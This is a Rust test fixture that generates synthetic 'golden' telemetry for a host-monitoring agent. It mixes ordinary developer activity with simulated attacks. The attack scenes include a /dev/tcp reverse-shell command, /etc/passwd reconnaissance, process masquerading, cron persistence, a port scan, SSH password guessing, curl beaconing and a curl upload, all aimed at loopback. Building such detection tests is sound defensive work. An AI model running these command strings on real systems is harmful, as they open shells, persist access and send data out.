//! What the golden events are about: a few minutes on one host, with work and with attacks that analysts know.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};

use picket_common::event::{
    AgentStart, Authentication, AuthenticationAction, ByteString, Connection, ConnectionClose, ConnectionOutcome,
    Direction, Event, EventBody, LossReason, LossStage, Origin, ProcessExit, ProcessId, ProcessStart, Protocol,
    SensorLoss, SensorMode, StreamKind, Timestamp,
};
use picket_common::id::{Epoch, EventKey, Sequence};

const MILLISECOND: i64 = 1_000_000;
const BEGIN: i64 = 1_763_850_000_000_000_000;
const EPOCH: Epoch = Epoch(1_763_850_000_000_000_000);
const LOOPBACK: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// The events of all scenes, in order.
pub(crate) fn events() -> Vec<Event> {
    let mut host = Host::new();
    host.begin();
    host.compile();
    host.look_around();
    host.reverse_shell();
    host.masquerade();
    host.persistence();
    host.scan_ports();
    host.guess_passwords();
    host.beacon();
    host.upload();
    host.short_lived();
    host.oddities();
    host.events
}

struct Host {
    events: Vec<Event>,
    now: i64,
    next_pid: u32,
    next_cookie: u64,
    random: u64,
}

impl Host {
    fn new() -> Self {
        Self { events: Vec::new(), now: BEGIN, next_pid: 100, next_cookie: 1, random: 1 }
    }

    /// A number below `limit` from a fixed sequence.
    fn random(&mut self, limit: u64) -> u64 {
        self.random = self.random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.random >> 33) % limit
    }

    fn wait(&mut self, milliseconds: i64) {
        self.now += milliseconds * MILLISECOND;
    }

    fn push(&mut self, body: EventBody) {
        let key = EventKey { epoch: EPOCH, sequence: Sequence(self.events.len() as u64) };
        self.events.push(Event { key, time: Timestamp(self.now), origin: Origin::AgentNetlink, body });
    }

    /// A process start as a sensor that could learn everything sees it; `change` takes away or adds.
    fn start(
        &mut self,
        parent: Option<ProcessId>,
        executable: &str,
        arguments: &[&str],
        change: impl FnOnce(&mut ProcessStart),
    ) -> ProcessId {
        let process = ProcessId { pid: self.next_pid, start_time: Timestamp(self.now - self.now % (10 * MILLISECOND)) };
        self.next_pid += 1;
        let mut start = ProcessStart {
            process,
            parent,
            executable: executable.into(),
            arguments: arguments.iter().map(|argument| ByteString::from(*argument)).collect(),
            arguments_truncated: false,
            working_directory: "/home/ada/project".into(),
            user_id: Some(1000),
            group_id: Some(1000),
            user_name: "ada".into(),
            session_id: Some(90),
            has_terminal: Some(true),
            standard_streams: [StreamKind::Terminal; 3],
            ancestors: vec!["/usr/bin/bash".into(), "/usr/sbin/sshd".into(), "/usr/lib/systemd/systemd".into()],
            executable_deleted: Some(false),
            seeded: false,
            cgroup_id: None,
            cgroup: ByteString::default(),
            executable_file: None,
            script: ByteString::default(),
        };
        change(&mut start);
        self.push(EventBody::ProcessStart(Box::new(start)));
        process
    }

    fn exit(&mut self, process: ProcessId, exit_code: i32) {
        self.push(EventBody::ProcessExit(ProcessExit {
            process,
            executable: ByteString::default(),
            exit_code: Some(exit_code),
            signal: None,
            duration_ns: None,
            cpu_time_ns: None,
        }));
    }

    fn connection(&mut self, remote: SocketAddr, owner: Option<ProcessId>, executable: &str) -> Connection {
        self.next_cookie += 1;
        Connection {
            cookie: self.next_cookie,
            protocol: Protocol::Tcp,
            direction: Direction::Outbound,
            local: SocketAddr::new(LOOPBACK, 40_000 + self.next_cookie as u16),
            remote,
            process: owner,
            executable: executable.into(),
            user_id: Some(1000),
            cgroup_id: None,
        }
    }

    /// An ended connection with loopback; `change` takes away or adds.
    fn close(
        &mut self,
        port: u16,
        owner: Option<ProcessId>,
        bytes: (u64, u64),
        change: impl FnOnce(&mut ConnectionClose),
    ) {
        let connection = self.connection(SocketAddr::new(LOOPBACK, port), owner, "");
        let mut close = ConnectionClose {
            connection,
            bytes_sent: Some(bytes.0),
            bytes_received: Some(bytes.1),
            segments_sent: Some(4 + (bytes.0 / 1400) as u32),
            segments_received: Some(4 + (bytes.1 / 1400) as u32),
            duration_ns: Some(3_000_000 + bytes.0 + bytes.1),
            outcome: ConnectionOutcome::Closed,
        };
        change(&mut close);
        self.push(EventBody::ConnectionClose(Box::new(close)));
    }

    fn shell(&mut self) -> ProcessId {
        self.wait(4000);
        self.start(Some(ProcessId { pid: 90, start_time: Timestamp(BEGIN) }), "/usr/bin/bash", &["bash"], |_| ())
    }

    fn begin(&mut self) {
        let sensor = |name: &str| SensorMode { name: name.into(), origin: Origin::AgentNetlink, reason: "".into() };
        self.push(EventBody::AgentStart(Box::new(AgentStart {
            agent_version: "0.1.0".into(),
            boot_id: "6f1d2c1e".into(),
            sensors: vec![sensor("process"), sensor("connection")],
        })));
        for (pid, executable) in [(1, "/usr/lib/systemd/systemd"), (80, "/usr/sbin/sshd"), (90, "/usr/bin/bash")] {
            let process = ProcessId { pid, start_time: Timestamp(BEGIN) };
            self.start(None, executable, &[executable], |start| {
                start.process = process;
                start.seeded = true;
                start.user_id = Some(if pid == 90 { 1000 } else { 0 });
            });
        }
    }

    fn compile(&mut self) {
        let shell = self.shell();
        for unit in ["main", "parse", "write"] {
            self.wait(120);
            let output = format!("{unit}.o");
            let cc = self.start(
                Some(shell),
                "/usr/bin/x86_64-linux-gnu-gcc-13",
                &["cc", "-O2", "-c", unit, "-o", &output],
                |_| (),
            );
            self.wait(3);
            let cc1 = self.start(
                Some(cc),
                "/usr/libexec/gcc/x86_64-linux-gnu/13/cc1",
                &["cc1", "-quiet", unit, "-o", "/tmp/ccXb12f.s"],
                |_| (),
            );
            self.wait(80);
            self.exit(cc1, 0);
            self.exit(cc, i32::from(unit == "parse"));
        }
        for command in [&["ls", "-la"][..], &["grep", "-rn", "TODO", "src"], &["sed", "-n", "1,5p", "notes.txt"]] {
            self.wait(700);
            self.start(Some(shell), &format!("/usr/bin/{}", command[0]), command, |_| ());
        }
    }

    fn look_around(&mut self) {
        let shell = self.shell();
        let script = "whoami; id; uname -a; cat /etc/passwd; ss -tan";
        let script_shell = self.start(Some(shell), "/usr/bin/dash", &["sh", "-c", script], |_| ());
        for command in [&["whoami"][..], &["id"], &["uname", "-a"], &["cat", "/etc/passwd"], &["ss", "-tan"]] {
            self.wait(4);
            self.start(Some(script_shell), &format!("/usr/bin/{}", command[0]), command, |_| ());
        }
    }

    fn reverse_shell(&mut self) {
        let shell = self.shell();
        let script = "exec 5<>/dev/tcp/127.0.0.1/4444; sh <&5 >&5 2>&5";
        let bash = self.start(Some(shell), "/usr/bin/bash", &["bash", "-c", script], |_| ());
        let open = self.connection(SocketAddr::new(LOOPBACK, 4444), Some(bash), "/usr/bin/bash");
        self.push(EventBody::ConnectionOpen(Box::new(open.clone())));
        self.wait(5);
        let on_socket = |start: &mut ProcessStart| start.standard_streams = [StreamKind::Socket; 3];
        let inner = self.start(Some(bash), "/usr/bin/dash", &["sh"], on_socket);
        for command in ["id", "pwd", "ls"] {
            self.wait(150);
            self.start(Some(inner), &format!("/usr/bin/{command}"), &[command], on_socket);
        }
        self.wait(100);
        self.close(4444, Some(bash), (900, 60), |close| {
            close.connection = open;
            close.duration_ns = Some(560_000_000);
        });
    }

    fn masquerade(&mut self) {
        let shell = self.shell();
        self.start(Some(shell), "/tmp/.cache/sshd", &["[kworker/0:1]", "0.5"], |_| ());
        self.wait(20);
        self.start(Some(shell), "/dev/shm/a/systemd-udevd (deleted)", &["/usr/lib/systemd/systemd-udevd"], |start| {
            start.executable_deleted = Some(true);
            start.ancestors.insert(0, "/tmp/x".into());
        });
    }

    fn persistence(&mut self) {
        let shell = self.shell();
        let script = "echo '*/5 * * * * /tmp/.x/run' >> /var/spool/cron/ada";
        let sh = self.start(Some(shell), "/usr/bin/dash", &["sh", "-c", script], |_| ());
        self.wait(4);
        self.start(Some(sh), "/usr/bin/chmod", &["chmod", "600", "/var/spool/cron/ada"], |_| ());
        self.wait(4);
        self.start(Some(shell), "/usr/bin/tee", &["tee", "-a", "/home/ada/.bashrc"], |start| {
            start.standard_streams[0] = StreamKind::Pipe;
        });
    }

    fn scan_ports(&mut self) {
        let shell = self.shell();
        let scanner = self.start(Some(shell), "/home/ada/bin/probe", &["probe", "127.0.0.1"], |_| ());
        for port in 0..24 {
            self.wait(2);
            // Some ends are found too late to know whose they were.
            let owner = (port % 3 != 0).then_some(scanner);
            self.close(20_000 + port, owner, (0, 0), |close| {
                close.outcome = ConnectionOutcome::Failed;
                close.duration_ns = None;
            });
        }
        self.close(22, Some(scanner), (0, 21), |_| ());
    }

    fn guess_passwords(&mut self) {
        let shell = self.shell();
        let guesser = self.start(Some(shell), "/usr/bin/python3.12", &["python3", "guess.py"], |_| ());
        for _ in 0..12 {
            let pause = 15 + self.random(40);
            self.wait(pause as i64);
            let bytes = (14 + self.random(9), 30);
            self.close(2222, Some(guesser), bytes, |_| ());
            // The far end, at the service.
            self.close(2222, None, (bytes.1, bytes.0), |close| {
                close.connection.direction = Direction::Inbound;
                (close.connection.local, close.connection.remote) = (close.connection.remote, close.connection.local);
                close.connection.executable = "/usr/sbin/sshd".into();
                close.connection.user_id = Some(0);
            });
            self.push(EventBody::Authentication(Box::new(Authentication {
                user_name: "ada".into(),
                success: false,
                service: "sshd".into(),
                source: Some(LOOPBACK),
                process: None,
                action: AuthenticationAction::Logon,
                user_id: None,
                user_exists: None,
                method: ByteString::default(),
                acting_user_name: ByteString::default(),
                terminal: ByteString::default(),
                command: ByteString::default(),
                source_port: None,
            })));
        }
    }

    fn beacon(&mut self) {
        let shell = self.shell();
        let script = "for t in 1 2 3; do curl -s http://127.0.0.1:38080/; sleep $t; done";
        let sh = self.start(Some(shell), "/usr/bin/dash", &["sh", "-c", script], |_| ());
        for _ in 0..8 {
            let curl = self.start(Some(sh), "/usr/bin/curl", &["curl", "-s", "http://127.0.0.1:38080/"], |_| ());
            self.wait(6);
            let answer = 200 + self.random(20);
            self.close(38080, Some(curl), (80, answer), |_| ());
            let jitter = self.random(200) as i64;
            self.wait(400 + jitter);
        }
    }

    fn upload(&mut self) {
        let shell = self.shell();
        let sender =
            self.start(Some(shell), "/usr/bin/curl", &["curl", "-T", ".d.gz", "http://127.0.0.1:8081/"], |_| ());
        for _ in 0..3 {
            self.wait(800);
            self.close(8081, Some(sender), (4 << 20, 180), |_| ());
        }
    }

    /// What sensors make of things that are gone before anybody could look.
    fn short_lived(&mut self) {
        let shell = self.shell();
        self.start(Some(shell), "", &[], |start| {
            start.user_id = None;
            start.session_id = None;
            start.has_terminal = None;
            start.executable_deleted = None;
            start.standard_streams = [StreamKind::Unknown; 3];
            start.ancestors.clear();
        });
        self.start(None, "", &["/usr/bin/id"], |start| start.ancestors.clear());
        self.close(9000, None, (0, 0), |close| {
            close.connection.direction = Direction::Unknown;
            close.connection.user_id = None;
            (close.bytes_sent, close.bytes_received, close.duration_ns) = (None, None, None);
            (close.segments_sent, close.segments_received) = (None, None);
            close.outcome = ConnectionOutcome::Unknown;
        });
    }

    /// Late events, foreign bytes, other networks, a clock that is set back.
    fn oddities(&mut self) {
        let shell = self.shell();
        self.now -= 2000 * MILLISECOND;
        self.start(Some(shell), "/usr/bin/ls", &["ls", "--late"], |_| ());
        let far = SocketAddr::new(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)), 443);
        let near = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(192, 168, 1, 7)), 53);
        for (remote, protocol) in [(far, Protocol::Tcp), (near, Protocol::Udp)] {
            let connection = self.connection(remote, Some(shell), "/usr/bin/bash");
            self.close(0, None, (300, 9000), |close| {
                close.connection = connection;
                close.connection.protocol = protocol;
            });
        }
        let foreign = ByteString::from(&b"\xff\xfe\x00\x1b[31m"[..]);
        self.start(Some(shell), "/opt/app/bin/d\u{e9}mon", &["d\u{e9}mon"], |start| start.arguments.push(foreign));
        self.push(EventBody::SensorLoss(SensorLoss {
            stage: LossStage::Sensor,
            reason: LossReason::QueueFull,
            count: 3,
            epoch: EPOCH,
        }));
        self.now -= 3_600_000 * MILLISECOND;
        self.start(Some(shell), "/usr/bin/ls", &["ls", "--clock-set-back"], |_| ());
    }
}
